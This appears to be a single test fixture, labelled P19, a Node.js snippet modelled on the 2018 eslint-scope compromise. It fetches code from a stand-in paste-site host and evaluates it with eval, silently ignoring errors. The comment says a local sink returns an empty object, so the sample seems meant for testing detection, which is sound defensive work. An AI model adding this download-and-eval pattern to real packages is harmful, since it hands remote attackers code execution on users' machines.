// P19 in Node, like eslint-scope 3.7.2 (2018): download code from a paste site and eval it. The sink
// answers `{}`, which evaluates to nothing.
const http = require('http');
http.get('http://pastebin.invalid/raw/XLeVP82h', (res) => {
  let code = '';
  res.on('data', (c) => (code += c));
  res.on('end', () => { try { eval(code); } catch (e) {} });
}).on('error', () => {}).setTimeout(3000, function () { this.destroy(); });
